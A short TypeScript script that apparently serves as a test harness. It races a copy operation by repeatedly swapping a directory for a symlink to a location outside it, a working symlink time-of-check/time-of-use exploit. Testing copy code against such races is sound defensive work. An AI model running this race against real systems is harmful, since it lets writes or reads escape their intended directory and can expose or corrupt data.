import { renameSync, symlinkSync } from "node:fs";

/**
 * A local attacker: swaps a directory of the copy with a symlink to a directory outside, there and back, as fast as it
 * can, until it is ended. Arguments: the directory, one where it is put meanwhile, where the symlink leads.
 */
const [directory, hidden, outside] = process.argv.slice(2) as [string, string, string];
const planted = `${hidden}/planted`;
let swaps = 0;

function attempt(step: () => void): void {
  try {
    step();
  } catch {
    // Whoever it races with was quicker: that is the point of it.
  }
}

for (;;) {
  // Another name each time: what the agent has made again in the directory's place is taken away as well.
  const away = `${hidden}/${swaps}`;
  attempt(() => symlinkSync(outside, planted));
  attempt(() => renameSync(directory, away));
  attempt(() => renameSync(planted, directory));
  attempt(() => renameSync(directory, planted));
  attempt(() => renameSync(away, directory));
  if (++swaps % 1000 === 0) process.stdout.write(`${swaps}\n`);
}
